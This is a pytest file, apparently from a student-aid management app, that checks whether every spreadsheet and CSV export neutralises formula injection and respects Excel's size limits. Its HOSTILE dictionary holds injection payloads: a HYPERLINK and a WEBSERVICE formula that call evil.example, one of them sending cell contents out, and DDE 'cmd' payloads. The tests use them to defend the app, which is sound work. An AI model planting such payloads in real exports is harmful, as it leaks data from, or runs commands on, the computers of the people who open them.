"""Every spreadsheet the app writes: no cell is a formula, none exceeds Excel's limits, money is a number.

The generated test writes a hostile value into every field a user can write that an export shows, downloads
every .xlsx route the app has (a new route fails the test until it is covered here) and reads every cell back.
"""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from caretrack.core import xlsx
from caretrack.core.access import Role
from caretrack.core.tabular import FORMULA_TRIGGERS, MAX_CELL_CHARS, safe_text, write_csv
from caretrack.extensions import db
from caretrack.ledger.models import Grade
from caretrack.org.models import Stage, UnitKind
from caretrack.org.services import ensure_academic_year, get_or_create_class, get_or_create_college
from caretrack.screening.models import ScreeningCase, ScreeningRun, TableSubmission
from caretrack.screening.rules import seed_rules
from caretrack.students.models import Category
from tests.factories import identify, make_id_number, make_student, make_unit, make_user, pay

HOSTILE = {
    "school": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "college": "+cmd|' /C calc'!A0",
    "class": "-2+3+cmd|' /C calc'!A0",
    "student_no": "@SUM(1+1)*cmd|' /C calc'!A0",
    "name": "\t=1+1",
    "voucher": "\r=1+1",
    "project": "=1+1",
    "remedy": "=WEBSERVICE(\"http://evil.example/\")",
}
XLSX_ROUTES = {"students.export_students", "ledger.export_disbursements", "screening.export_table",
               "screening.export_submission", "activities.export_activities", "activities.export_sheet",
               "activities.export_coverage", "duties.export_unit"}


# --- the helper ----------------------------------------------------------------------------------------------

@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_text_starting_like_a_formula_gets_an_apostrophe(app, trigger):
    assert safe_text(f"{trigger}1+1") == f"'{trigger}1+1"


def test_ordinary_text_is_written_as_it_is_and_twice_safe_is_once_safe(app):
    assert safe_text("张三 1-2 a=b") == "张三 1-2 a=b"
    assert safe_text(safe_text("=1+1")) == "'=1+1"


def test_text_over_excels_limit_is_cut_with_a_visible_mark(app):
    cut = safe_text("长" * (MAX_CELL_CHARS + 10))
    assert len(cut) == MAX_CELL_CHARS
    assert cut.endswith("已截断）")


def test_a_whole_workbook_is_checked_before_it_leaves(app):
    workbook = Workbook()
    sheet = workbook.active
    sheet["A1"] = "=1+1"  # as a writer that forgot the helper would
    sheet["B1"] = Decimal("-12.50")
    sheet["C1"] = -3
    sheet.row_dimensions[1].height = 64_744
    sheet = load_workbook(xlsx.save(workbook)).active
    assert (sheet["A1"].value, sheet["A1"].data_type) == ("'=1+1", "s")
    assert (sheet["B1"].value, sheet["B1"].number_format) == (-12.5, "0.00")
    assert (sheet["C1"].value, sheet["C1"].data_type) == (-3, "n")
    assert sheet.row_dimensions[1].height == xlsx.MAX_ROW_HEIGHT


def test_csv_cells_are_neutralised_and_numbers_stay_numbers(app):
    content = write_csv(["姓名", "金额"], [[HOSTILE["name"], Decimal("-5.00")], ["@x", 3]])
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert rows[1:] == [["'\t=1+1", "-5.00"], ["'@x", "3"]]


# --- every export --------------------------------------------------------------------------------------------

@pytest.fixture
def hostile(city):
    """A university whose every exported user-written field holds a formula, with a paid and an unpaid student."""
    ensure_academic_year(2025)
    seed_rules()
    university = make_unit("4199010002", HOSTILE["school"], UnitKind.UNIVERSITY, city.city, [Stage.HIGHER])
    college = get_or_create_college(None, university, HOSTILE["college"])
    school_class = get_or_create_class(None, university, HOSTILE["class"], college)
    paid = make_student(school_class, name=HOSTILE["name"], student_no=HOSTILE["student_no"], stage=Stage.HIGHER)
    unpaid = make_student(school_class, name=HOSTILE["name"] + "2", id_number=make_id_number(birth="20050101"),
                          stage=Stage.HIGHER)
    for kid in (paid, unpaid):
        identify(kid, 2025, Category.ORPHAN)
    payment = pay(paid, "国家助学金", "2475.00", 2025, grade=Grade.FIRST, term=1, paid_on=date(2025, 10, 20),
                  voucher=HOSTILE["voucher"])
    payment.project.name = HOSTILE["project"]
    db.session.flush()
    city.hostile_school, city.officer = university, make_user(Role.SCHOOL_OFFICER, university)
    return city


def cells(response):
    """Every cell of the downloaded workbook; each sheet's row heights checked against Excel's limit on the way."""
    assert response.status_code == 200, response.status_code
    workbook = load_workbook(io.BytesIO(response.data))  # data_only=False: formulas would come back as formulas
    for sheet in workbook.worksheets:
        heights = [d.height for d in sheet.row_dimensions.values() if d.height is not None]
        assert all(height <= xlsx.MAX_ROW_HEIGHT for height in heights), max(heights)
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_safe(all_cells, *expected: str):
    """No formula, no text a spreadsheet would evaluate, no cell over the limit; and the hostile texts are there."""
    texts = [cell.value for cell in all_cells if isinstance(cell.value, str)]
    assert [cell.coordinate for cell in all_cells if cell.data_type == "f"] == []
    assert [text for text in texts if text.startswith(FORMULA_TRIGGERS)] == []
    assert max(map(len, texts)) <= MAX_CELL_CHARS
    for value in expected:
        assert any(value.strip() in text for text in texts), value  # the services strip names


def test_every_xlsx_route_is_covered_here(app):
    routes = {rule.endpoint for rule in app.url_map.iter_rules() if rule.rule.endswith(".xlsx")}
    assert routes == XLSX_ROUTES


def test_the_student_export_writes_no_formula(hostile, login):
    client = login(hostile.officer)
    assert_safe(cells(client.get("/students/export.xlsx?year=2025")), HOSTILE["school"], HOSTILE["college"],
                HOSTILE["class"], HOSTILE["student_no"], HOSTILE["name"])


def test_the_payment_export_writes_no_formula_and_money_as_numbers(hostile, login):
    client = login(hostile.officer)
    written = cells(client.get("/ledger/disbursements/export.xlsx"))
    assert_safe(written, HOSTILE["school"], HOSTILE["student_no"], HOSTILE["name"], HOSTILE["project"],
                HOSTILE["voucher"])
    amounts = [cell for cell in written if cell.data_type == "n" and cell.value == 2475]
    assert [cell.number_format for cell in amounts] == ["0.00"]


def test_the_screening_tables_write_no_formula(hostile, login):
    client = login(hostile.officer)
    unit = f"/screening/units/{hostile.hostile_school.id}"
    client.post(f"{unit}/run?year=2025&term=1")
    case = db.session.scalar(select(ScreeningCase))
    fields = {"reason": HOSTILE["remedy"], "remedy": HOSTILE["remedy"], "deadline": "", "owner_id": "0",
              "version": str(case.version)}
    saved = client.post(f"/screening/cases/{case.id}", data={f"case{case.id}-{k}": v for k, v in fields.items()})
    assert saved.status_code == 302
    expected = (HOSTILE["school"], HOSTILE["college"], HOSTILE["class"], HOSTILE["remedy"])
    assert_safe(cells(client.get(f"{unit}/table.xlsx?year=2025&term=1")), *expected)
    run = db.session.scalar(select(ScreeningRun).order_by(ScreeningRun.id.desc()))
    client.post(f"{unit}/submit?year=2025&term=1", data={"confirmed": "1", "run_id": str(run.id)})
    submission = db.session.scalar(select(TableSubmission))
    assert_safe(cells(client.get(f"/screening/submissions/{submission.id}/table.xlsx")), *expected)


def test_no_screening_table_cell_or_row_exceeds_excels_limits(hostile, login):
    client = login(hostile.officer)
    unit = f"/screening/units/{hostile.hostile_school.id}"
    client.post(f"{unit}/run?year=2025&term=1")
    for case in db.session.scalars(select(ScreeningCase)):
        case.reason = case.remedy = "联系家长核实家庭情况并补发国家助学金。" * 2000  # 38,000 characters each
    db.session.flush()
    written = cells(client.get(f"{unit}/table.xlsx?year=2025&term=1"))
    longest = max((cell for cell in written if isinstance(cell.value, str)), key=lambda cell: len(cell.value))
    assert len(longest.value) == MAX_CELL_CHARS
    assert longest.value.endswith("已截断）")


def test_the_activity_downloads_write_no_formula(hostile, login):
    from caretrack.activities import services as activities
    from caretrack.activities.models import Theme
    from caretrack.students.models import Student

    themes = list(db.session.scalars(select(Theme).where(Theme.name == "诚信教育")))
    activity, _warnings = activities.save_activity(None, activities.ActivityData(
        organiser=activities.organiser_for("unit", hostile.hostile_school), themes=themes, title=HOSTILE["project"],
        held_on=date(2025, 11, 5), place=HOSTILE["voucher"]), date(2025, 12, 1))
    students = list(db.session.scalars(select(Student).where(Student.school_id == hostile.hostile_school.id)))
    activities.record_attendance(None, activity, students, {students[0].id})
    client = login(hostile.officer)
    assert_safe(cells(client.get("/activities/export.xlsx")), HOSTILE["project"], HOSTILE["voucher"],
                HOSTILE["school"])
    assert_safe(cells(client.get(f"/activities/{activity.id}/sheet.xlsx")), HOSTILE["student_no"], HOSTILE["name"],
                HOSTILE["class"])
    unit = hostile.hostile_school.id
    assert_safe(cells(client.get(f"/activities/coverage/units/{unit}/coverage.xlsx?year=2025")), HOSTILE["school"],
                HOSTILE["class"], HOSTILE["name"])


def test_the_duties_inspection_download_writes_no_formula(hostile, login):
    from caretrack.duties import services as duties
    from caretrack.duties.models import DutyType

    meeting = db.session.scalar(select(DutyType).where(DutyType.code == "leadership_meeting"))
    publicity = db.session.scalar(select(DutyType).where(DutyType.code == "policy_publicity"))
    school = hostile.hostile_school
    duties.record_duty(None, school, duties.RecordData(duty=meeting, done_on=date(2025, 10, 9),
                                                       title=HOSTILE["project"], summary=HOSTILE["remedy"]),
                       date(2025, 10, 10), set(), set())
    duties.record_duty(None, school, duties.RecordData(duty=publicity, done_on=date(2025, 10, 9), title="公布政策",
                                                       channel=HOSTILE["voucher"], contact=HOSTILE["name"]),
                       date(2025, 10, 10), set(), set())
    client = login(hostile.officer)
    assert_safe(cells(client.get(f"/duties/units/{school.id}/inspection.xlsx?year=2025")),
                HOSTILE["project"], HOSTILE["voucher"], HOSTILE["name"])
